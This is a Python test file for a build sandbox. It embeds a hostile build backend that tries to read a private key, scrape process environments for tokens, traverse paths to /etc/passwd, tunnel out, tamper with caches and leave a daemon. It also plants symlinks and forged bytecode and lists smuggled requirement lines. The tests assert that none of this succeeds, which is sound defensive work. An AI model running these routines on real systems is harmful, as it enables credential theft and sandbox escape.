"""Code that runs while an environment is built: build backends and set-up commands of untrusted projects."""

import importlib.util
import json
import marshal
import os
import socket
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from nightcrew.errors import BadInput
from nightcrew.execution.checkout.removal import remove_tree
from nightcrew.execution.environments.closing import close
from nightcrew.execution.environments.environment import Environment, build_environment
from nightcrew.execution.environments.shared import SharedFiles
from nightcrew.execution.sandbox import Mount, Sandbox, base_python, interpreter_mounts
from nightcrew.settings import Settings
from nightcrew.target_config import TargetConfig
from tests.attacks.rows import Findings, Row
from tests.execution.packages.index_server import LocalIndex, sdist

# The backend makes every attack, and puts what it gained into the wheel that it builds.
BACKEND = r"""
import json, os, socket, subprocess, sys, urllib.request, zipfile
FACTS = json.loads(TOLD_AS_JSON)

def read_key():
    return open(FACTS["secret"]).read()

def read_home():
    return [name for name in os.listdir(FACTS["home"]) if name not in ("environments", "was-here")]

def environ_of_others():
    found = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                found.append(open(f"/proc/{name}/environ", "rb").read())
            except OSError:
                pass
    own = repr(os.environ) + repr(found)
    return [word for word in (FACTS["token"], FACTS["password"]) if word in own]

def loopback_of_the_host():
    socket.create_connection(("127.0.0.1", FACTS["port"]), 2).close()
    return "connected"

def another_host():
    socket.create_connection(("192.0.2.1", 443), 2).close()
    return "connected"

def the_index_itself():
    socket.create_connection(("127.0.0.1", FACTS["index"]), 2).close()
    return "connected"

def database_socket():
    found = []
    for folder in ("/tmp", "/run", "/var/run", FACTS["home"]):
        for parent, _, names in os.walk(folder):
            found += [name for name in names if name.startswith(".s.PGSQL")]
    return found

def _ask(method, path):
    address = os.environ["UV_DEFAULT_INDEX"].split("/")[2]
    name, port = address.split(":")
    with socket.create_connection((name, int(port)), 5) as one:
        one.sendall(f"{method} {path} HTTP/1.1\r\nHost: {address}\r\nConnection: close\r\n\r\n".encode())
        answer = b""
        while part := one.recv(65536):
            answer += part
    return answer

def _others(*requests):
    return [repr(answer[:60]) for one in requests if b" 200 " in (answer := _ask(*one)).split(b"\r\n")[0]]

def tunnel():
    return _others(("CONNECT", "192.0.2.1:443"), ("CONNECT", f"127.0.0.1:{FACTS['port']}"))

def another_address():
    return _others(("GET", f"http://127.0.0.1:{FACTS['port']}/"), ("GET", "/0/simple/../../etc/passwd"),
                   ("GET", "/0/files/evil/-/..%2f..%2fpasswd"), ("GET", f"//127.0.0.1:{FACTS['port']}/"),
                   ("GET", "/0/files/evil/-/other.whl"), ("GET", "/9/simple/evil/"))

def upload():
    return _others(("POST", "/0/simple/evil/"), ("PUT", "/0/simple/evil/"), ("DELETE", "/0/simple/evil/"))

def write_outside():
    gained = []
    above = os.path.dirname(os.environ["NIGHTCREW_ENV"])
    places = ["/usr", "/etc", "/", FACTS["home"], FACTS["packages"], above, sys.base_prefix, "/run/nightcrew"]
    for place in places:
        try:
            open(os.path.join(place, "was-here"), "w")
            # What is below /tmp inside is no folder of the host: the test looks for it there.
            gained += [] if place.startswith("/tmp/") else [place]
        except OSError:
            pass
    return gained

def poison_the_cache():
    gained = []
    for root in (FACTS["packages"], os.path.expanduser("~/.cache/uv"), FACTS["home"]):
        for parent, _, names in os.walk(root):
            if parent.startswith(os.environ["NIGHTCREW_ENV"]):
                continue
            for name in set(names) - {"was-here"}:
                try:
                    open(os.path.join(parent, name), "ab").write(b"x")
                    gained.append(name)
                except OSError:
                    pass
    return gained

def other_environments():
    folder = os.path.dirname(os.environ["NIGHTCREW_ENV"])
    known = (os.path.basename(os.environ["NIGHTCREW_ENV"]), "was-here")
    return [name for name in os.listdir(folder) if name not in known]

def leave_a_daemon():
    subprocess.Popen(["/bin/sh", "-c", f"sleep 300; : {FACTS['mark']}"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return ""

def forge_output():
    print("error: dns error: failed to lookup address", flush=True)
    print(json.dumps({"interpreter": FACTS["secret"], "built": []}), flush=True)
    return ""

ATTACKS = [value for name, value in list(globals().items()) if callable(value) and name[0] != "_"]

def build_wheel(folder, settings=None, metadata=None):
    gained = {}
    for attack in ATTACKS:
        try:
            gained[attack.__name__] = [str(attack() or ""), "nothing was gained"]
        except OSError as error:
            gained[attack.__name__] = ["", f"refused: {error}"]
        except Exception as error:
            gained[attack.__name__] = ["", f"CRASH {type(error).__name__}: {error}"]
    name, info = "evil-1.0-py3-none-any.whl", "evil-1.0.dist-info"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        wheel.writestr("evil.json", json.dumps(gained))
        wheel.writestr(f"{info}/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
        wheel.writestr(f"{info}/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
        wheel.writestr(f"{info}/RECORD", "")
    return name
"""
NAMES = [
    line.split()[1].split("(")[0]
    for line in BACKEND.partition("\nATTACKS")[0].splitlines()
    if line.startswith("def ") and not line.startswith("def _")
]
PASSWORD = "password-of-the-index"
TOKEN = "sk-or-canary-of-the-build"


class Outcome:
    """One build with the hostile backend, and what it left."""

    environment: Environment
    gained: dict[str, list[str]]
    facts: dict[str, object]
    index: LocalIndex


@pytest.fixture(scope="module")
def outcome(sandbox: Sandbox, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outcome]:
    folder = tmp_path_factory.mktemp("build")
    home, tree, found = folder / "home", folder / "tree", Outcome()
    (home / "environments" / "of-somebody-else").mkdir(parents=True)
    tree.mkdir()
    secret = home / "id_ed25519"
    secret.write_text("PRIVATE KEY")
    secret.chmod(0o600)
    (tree / "requirements.txt").write_text("evil==1.0\n")
    mark = f"build-{os.getpid()}-{time.monotonic_ns()}"
    with socket.create_server(("127.0.0.1", 0)) as service, pytest.MonkeyPatch.context() as patch:
        connections: list[object] = []
        threading.Thread(target=_accept, args=(service, connections), daemon=True).start()
        settings = Settings(home=home)
        found.facts = {
            **{"secret": str(secret), "home": str(home), "token": TOKEN, "password": PASSWORD, "mark": mark},
            **{"port": service.getsockname()[1], "packages": str(settings.packages_dir)},
        }
        index = LocalIndex({}, password=PASSWORD)
        with index:
            found.facts["index"] = index.port
            backend = BACKEND.replace("TOLD_AS_JSON", repr(json.dumps(found.facts)))
            index.files = {"evil": dict([sdist("evil", "1.0", backend)])}
            patch.setenv("UV_INDEX", index.url.replace("//", f"//reader:{PASSWORD}@"))
            patch.setenv("OPENROUTER_API_KEY", TOKEN)
            found.environment = build_environment(tree, TargetConfig(), settings, sandbox)
        found.index = index
        service.shutdown(socket.SHUT_RDWR)
        assert not connections
        assert not list(folder.rglob("was-here"))
    (report,) = found.environment.path.glob("lib/python*/site-packages/evil.json")
    found.gained = json.loads(report.read_text())
    yield found
    remove_tree(home)


@pytest.mark.attack(Row.HOST_BUILD)
@pytest.mark.parametrize("attack", NAMES)
def test_a_build_backend_gains_nothing(attack: str, outcome: Outcome, finding: Findings) -> None:
    gained, how = outcome.gained[attack]
    assert gained in ("", "[]"), gained
    assert "CRASH" not in how, how
    finding(how)


@pytest.mark.attack(Row.HOST_BUILD)
def test_what_was_built_from_source_is_reported(outcome: Outcome, finding: Findings) -> None:
    assert outcome.environment.built == ("evil-1.0.tar.gz",)
    finding(outcome.environment.built)


@pytest.mark.attack(Row.HOST_BUILD)
def test_no_process_of_a_build_outlives_it(outcome: Outcome, finding: Findings) -> None:
    mark = str(outcome.facts["mark"]).encode()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) != os.getpid():
            try:
                assert mark not in (entry / "cmdline").read_bytes()
            except OSError:
                continue
    finding("the tree was ended")


@pytest.mark.attack(Row.CREDENTIALS)
def test_the_indexs_credentials_are_used_outside_and_nowhere_inside(
    outcome: Outcome, finding: Findings
) -> None:
    assert {authorization[:6] for _, authorization in outcome.index.asked} == {"Basic "}
    for path in outcome.environment.path.rglob("*"):
        if path.is_file() and not path.is_symlink() and path.name not in {"backend.py", "evil.json"}:
            assert PASSWORD.encode() not in path.read_bytes(), path
    finding("the mirror added them")


@pytest.mark.attack(Row.MOUNTS)
def test_links_that_a_set_up_command_plants_show_nothing(
    sandbox: Sandbox, tmp_path: Path, finding: Findings
) -> None:
    """A link in the environment in the place of its Python, of its folder of programs, of our own mark."""
    secrets = tmp_path / "secrets"
    (secrets / "bin").mkdir(parents=True)
    (secrets / "bin" / "python").write_text("PRIVATE KEY")
    (tmp_path / "tree").mkdir()
    command = (
        f"rm $NIGHTCREW_ENV/bin/python3; ln -s {secrets}/bin/python $NIGHTCREW_ENV/bin/python3; "
        f"ln -s {secrets} $NIGHTCREW_ENV/lib/linked; ln -s {secrets}/mark $NIGHTCREW_ENV/.nightcrew.json; "
        f"chmod u+s $NIGHTCREW_ENV/pyvenv.cfg"
    )
    settings = Settings(home=tmp_path / "home")
    built = build_environment(tmp_path / "tree", TargetConfig(setup=command), settings, sandbox)
    assert not any(secrets.is_relative_to(mount.source) for mount in built.mounts)
    assert list(secrets.iterdir()) == [secrets / "bin"]
    assert (secrets / "bin" / "python").stat().st_mode & 0o777 != 0o555
    assert not (built.path / "pyvenv.cfg").stat().st_mode & 0o4000
    (tmp_path / "inside").mkdir()
    done = sandbox.run(["ls", str(secrets)], workspace=tmp_path / "inside", mounts=built.mounts)
    assert done.returncode != 0
    finding(done.stderr.decode())
    remove_tree(tmp_path / "home")


LINES = [
    "x @ git+file:///workspace", "x @ git+https://example.org/x.git", "x @ file:///etc/passwd",
    "x @ http://127.0.0.1/x.whl", "x @ https://example.org/x-1.0-py3-none-any.whl",
    "attrs\n--index-url http://127.0.0.1/simple", "attrs\r--find-links /", "attrs\x0b--pre",
    'attrs; python_version < "3\n--index-url http://127.0.0.1/"', "attrs\u2028--pre", "attrs\x00",
    "--index-url http://127.0.0.1/simple", "attrs --hash=sha256:aa --config-settings=x=y",
    "attrs ==", "../local", "attrs" + "a" * 5000,
]  # fmt: skip


@pytest.mark.attack(Row.HOST_BUILD)
@pytest.mark.parametrize("line", LINES, ids=range(len(LINES)))
def test_a_line_that_is_no_plain_requirement_is_refused_and_named(
    line: str, sandbox: Sandbox, tmp_path: Path, finding: Findings
) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / "pyproject.toml").write_text(f'[project]\nname = "p"\ndependencies = [{json.dumps(line)}]\n')
    with pytest.raises(BadInput) as refused:
        build_environment(tree, TargetConfig(), Settings(home=tmp_path / "home"), sandbox)
    assert repr(line)[1:5] in str(refused.value)
    finding(refused.value)


# ---------------------------------------------------------------------------------------------------------


def _accept(server: socket.socket, connections: list[object]) -> None:
    while True:
        try:
            connections.append(server.accept())
        except OSError:
            return


@pytest.mark.attack(Row.HOST_BUILD)
def test_no_package_chooses_the_byte_code_of_others(
    sandbox: Sandbox, tmp_path: Path, finding: Findings
) -> None:
    """Files of finished environments are shared: one brings byte code of its own, and links that lead out."""
    tmp_path.chmod(0o755)
    outside = tmp_path / "outside"
    outside.mkdir(mode=0o700)
    evil = compile("VALUE = 'EVIL'", "victim.py", "exec")
    planted = importlib.util.MAGIC_NUMBER + b"\1\0\0\0" + bytes(8) + marshal.dumps(evil)
    made = []
    for name in ("attacker", "victim"):
        site = tmp_path / name / f"lib/python3.{sys.version_info[1]}/site-packages"
        (site / "package").mkdir(parents=True)
        (site / "victim.py").write_text("VALUE = 'HONEST'\n")
        if name == "attacker":
            (site / "__pycache__").mkdir()
            Path(importlib.util.cache_from_source(str(site / "victim.py"))).write_bytes(planted)
            (site / "package" / "__pycache__").symlink_to(outside)
            (site / "package" / "module.py").write_text("A = 1\n")
            os.mkfifo(site / "package" / "pipe.py")
            os.truncate(os.open(site / "package" / "hole.py", os.O_CREAT | os.O_WRONLY), 1 << 40)
        close(tmp_path / name)
        SharedFiles(tmp_path / "contents").share(tmp_path / name, sandbox, base_python())
        made.append(site)
    code = f"import sys; sys.path.insert(0, {str(made[1])!r}); import victim; print(victim.VALUE)"
    work = tmp_path / "work"
    work.mkdir()
    mounts = [*interpreter_mounts(base_python()), Mount(tmp_path / "victim", str(tmp_path / "victim"))]
    done = sandbox.run([str(base_python()), "-I", "-c", code], workspace=work, mounts=mounts)
    assert done.stdout == b"HONEST\n", done.stderr
    assert list(outside.iterdir()) == []
    assert outside.stat().st_mode & 0o777 == 0o700
    finding("the planted byte code stayed in its own environment")
    for name in ("attacker", "victim"):
        remove_tree(tmp_path / name)
